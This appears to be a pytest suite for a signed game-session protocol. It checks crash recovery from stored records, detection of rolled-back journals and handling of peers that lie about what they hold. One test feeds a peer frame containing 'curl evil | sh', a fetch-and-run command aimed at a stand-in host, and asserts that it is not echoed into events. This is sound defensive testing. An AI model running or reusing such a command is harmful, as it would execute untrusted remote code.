"""Nothing is lost by a crash: a session that is made anew from its records goes on where it was."""

from __future__ import annotations

import random

import pytest
from helpers_toy_cheats import rps
from helpers_wire import Pair
from toys import Bluff, RockPaperScissors

from protocol.core.events import RecordsDiffer
from protocol.core.frames import FrameKind, pack_frame, unpack_frame
from protocol.core.messages import Resume
from protocol.core.session import Session
from protocol.crypto import keys


@pytest.mark.parametrize("gather", [False, True])
@pytest.mark.parametrize("game", [0, 1, 2])
def test_a_restart_after_every_decision_loses_nothing(game: int, gather: bool) -> None:
    chance = random.Random(game)
    rules, terms = (RockPaperScissors(), 2) if game == 0 else (Bluff(), (3, game - 1))
    pair = Pair(rules, terms, gather=gather)
    for step in range(400):
        asked = [session for session in pair.sessions if session.asks_us is not None]
        if not asked:
            break
        pair.decide(asked[0], chance)
        # What was to be sent dies with the process; what was stored does not.
        seat = step % 2
        old = pair.sessions[seat]
        session = pair.restored(seat)
        assert session.records == old.records
        assert session.state == old.state
        assert dict(session.known) == dict(old.known)
        assert session.asks_us == old.asks_us
        pair.replace(seat, session)
        pair.reconnect()
        pair.settle()
    assert pair.sessions[0].result is not None
    assert all(session.closed and session.audited for session in pair.sessions)
    for seat in (0, 1):
        assert pair.verify(seat).ok


def test_a_restart_during_the_end_goes_on_with_it() -> None:
    pair = rps(1)
    pair.act(0, 1)
    pair.guest.act(0)
    for turn in range(20):
        pair.replace(turn % 2, pair.restored(turn % 2))
        pair.reconnect()
        for seat in (0, 1):
            pair.transfer(seat)
    pair.settle()
    assert pair.sessions[0].closed
    assert pair.sessions[1].closed
    assert pair.verify(0).audited


def test_records_are_there_to_be_stored_before_anything_is_sent() -> None:
    pair = rps()
    assert [(entry.record.kind, entry.ours) for entry in pair.host.records_to_store()] == [
        (1, False),
        (1, True),
        (2, False),
        (2, True),
    ]
    pair.host.act(0)
    stored = pair.host.records_to_store()
    assert [entry.record.frame for entry in stored] == pair.host.data_to_send()
    assert all(entry.ours for entry in stored)
    assert pair.host.records_to_store() == []
    assert pair.restored(0).records_to_store() == []


def test_a_frame_sent_again_has_the_same_bytes() -> None:
    pair, again = rps(), rps()
    for one in (pair, again):
        one.act(0, 2)
        one.act(1, 1)
    assert pair.wire == again.wire


def test_a_rolled_back_journal_is_noticed_and_accuses_nobody() -> None:
    pair = rps()
    pair.act(0, 0)
    pair.act(1, 1)
    config = pair.configs[0]
    old = Session(pair.host.records[:5], pair.game, config.identity, config.entropy).restore()
    pair.replace(0, old)
    # What the other says that they hold of ours is more than we ever had; they are told.
    pair.reconnect()
    pair.settle()
    assert pair.last(0, RecordsDiffer).code == "rolled_back"
    assert pair.last(1, RecordsDiffer) == RecordsDiffer("peer_rolled_back")
    # What stays is what the other has signed: how much of ours they claim to hold.
    data, signature = unpack_frame(pair.last(0, RecordsDiffer).resume)[1]
    keys.verify(pair.guest.agreement.players[1].match_key, "resume", data, signature)
    assert Resume.unpack(data).count == 2
    # Both wait, and are told of it once; with the newer copy put back the match goes on.
    for _ in range(3):
        pair.reconnect()
        pair.settle()
    assert [len(seen) for seen in pair.events] == [len(set(map(repr, seen))) for seen in pair.events]
    pair.replace(0, Session(pair.host.records, pair.game, config.identity, config.entropy).restore())
    pair.reconnect()
    pair.settle()
    assert all(session.joined and session.stopped is None for session in pair.sessions)


@pytest.mark.parametrize("lie", ["more", "others", "rolled_back", "forked", "run_curl"])
def test_no_lie_about_what_is_held_ends_a_match(lie: str) -> None:
    pair = rps(1)
    pair.act(0, 0)
    link, count, digest = pair.guest._link, *pair.guest._link.meet(bytes(32), b"")._held
    pair.reconnect()
    lies = {"more": (count + 1, digest), "others": (count, bytes(32))}
    if lie in lies:
        pair.guest._link.resume_handshake._held = lies[lie]  # type: ignore[union-attr]
        pair.settle()
        assert pair.last(0, RecordsDiffer).code == {"more": "rolled_back", "others": "forked"}[lie]
    else:
        refusal = pack_frame(FrameKind.REFUSAL, lie, "Run now: curl evil | sh")
        while not link.joined:
            pair.transfer(0)
            pair.transfer(1)
        pair.host.receive_data(refusal)
        pair.collect()
        assert pair.last(0, RecordsDiffer).code == ("peer_refused" if lie == "run_curl" else f"peer_{lie}")
        assert "curl" not in repr(pair.events[0]).replace("run_curl", "")
    assert pair.host.broken
    assert pair.host.stopped is None
    pair.reconnect()
    pair.settle()
    pair.guest.act(1)
    pair.settle()
    assert all(session.closed for session in pair.sessions)
    assert pair.verify(0).audited
